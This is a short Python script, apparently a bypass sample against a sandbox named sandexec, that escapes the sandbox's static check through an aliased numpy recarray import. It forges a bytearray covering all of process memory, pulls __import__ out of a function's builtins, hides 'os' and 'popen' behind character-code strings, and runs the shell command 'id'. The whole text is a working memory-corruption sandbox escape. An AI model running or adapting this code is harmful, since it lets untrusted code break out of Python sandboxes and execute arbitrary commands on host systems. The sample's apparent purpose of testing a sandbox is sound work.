# source: sandexec README, "The static check", "arrays over bytes the script wrote" (np.ndarray((1,), object, b)[0] is any address taken as an object); classic CPython fakeobj/addrof bytearray exploit (pyjail write-ups)
# family: constructor under an import alias - `from numpy import recarray as ra` at module level, then nd(shape, object, buffer) (the buffer rule reads the name ndarray only)
# goal: fake bytearray over the whole address space -> func_builtins -> __import__("os") -> runs `id`
import numpy as np
from numpy import recarray as ra


def addr(o):
    return int.from_bytes(np.array([o, None], dtype=object).tobytes()[:8], "little")


keep = []


def fake(a):
    raw = a.to_bytes(8, "little")
    keep.append(raw)
    return ra((1,), [("o", "O")], raw).o[0]


def q(n):
    return n.to_bytes(8, "little")


ba_type = addr(bytearray)
body = q(1 << 40) + q(ba_type) + q(1 << 62) + q(1 << 62) + q(0) + q(0) + q(0) + q(0)
keep.append(body)
mem = fake(addr(body) + 32)

fa = addr(addr)
bptr = int.from_bytes(mem[fa + 24:fa + 32], "little")
bd = fake(bptr)
imp = bd["".join(chr(c) for c in [95, 95, 105, 109, 112, 111, 114, 116, 95, 95])]
osm = imp("".join(chr(c) for c in [111, 115]))
print(osm)
ga = bd["".join(chr(c) for c in [103, 101, 116, 97, 116, 116, 114])]
print(ga(osm, "".join(chr(c) for c in [112, 111, 112, 101, 110]))("id").read())
